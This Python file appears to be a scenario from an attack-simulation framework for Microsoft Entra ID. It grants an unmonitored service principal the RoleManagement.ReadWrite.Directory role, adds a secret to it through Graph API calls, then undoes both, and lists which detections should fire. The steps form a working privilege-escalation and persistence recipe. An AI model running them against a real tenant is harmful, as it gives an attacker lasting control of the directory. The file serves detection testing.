"""An application nobody watches is made all-powerful, and then gets a secret of the attacker's."""

from typing import Final

from sekimori.sim.attack import Attacker
from sekimori.sim.entra.directory import GRAPH_APP
from sekimori.sim.entra.neighbours import WAREHOUSE_PRINCIPAL
from sekimori.sim.plan import Plan, Step

ID: Final = "secret_on_privileged_app"
TITLE: Final = {
    "ja": "乗っ取り権限を与えたアプリにシークレットを追加",
    "en": "Add a secret to an app that was made all-powerful",
}
STORY: Final = {
    "ja": "誰も見ていない在庫同期アプリにロールを配れる権限を与え、自分のシークレットを足す。管理者への戻り道になる。",
    "en": "The warehouse's registration may give out roles from now on, and gets a secret: a way back in.",
}
ATTACK: Final = ("T1098.001", "T1098.003")
MUST_FIRE: Final = ("credential_on_privileged_app", "takeover_permission_granted", "client_credential_added")
MUST_STAY_QUIET: Final = ("service_principal_sign_in", "permission_requested", "federated_credential_added")
TELLING: Final = ("KeyDescription", "AppRole.Value")
ROLE: Final = "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8"  # RoleManagement.ReadWrite.Directory
PLAN: Final = Plan(
    permissions=("Application.ReadWrite.All", "AppRoleAssignment.ReadWrite.All"),
    steps=(
        Step(
            method="POST",
            path="/servicePrincipals/{principal_id}/appRoleAssignments",
            body={"principalId": "{principal_id}", "resourceId": "{graph_id}", "appRoleId": ROLE},
            keep={"assignment_id": "id"},
        ),
        Step(
            method="POST",
            path="/servicePrincipals/{principal_id}/addPassword",
            body={"passwordCredential": {"displayName": "sekimori drill"}},
            keep={"key_id": "keyId"},
        ),
    ),
    undo=(
        Step(method="POST", path="/servicePrincipals/{principal_id}/removePassword", body={"keyId": "{key_id}"}),
        Step(method="DELETE", path="/servicePrincipals/{principal_id}/appRoleAssignments/{assignment_id}"),
    ),
)


async def detonate(attacker: Attacker) -> None:
    """Grant RoleManagement.ReadWrite.Directory, then add the secret."""
    path = f"/servicePrincipals/{WAREHOUSE_PRINCIPAL}"
    grant = {"principalId": WAREHOUSE_PRINCIPAL, "resourceId": GRAPH_APP, "appRoleId": ROLE}
    await attacker.administer("POST", f"{path}/appRoleAssignments", grant)
    await attacker.administer("POST", f"{path}/addPassword", {"passwordCredential": {"displayName": "sync"}})
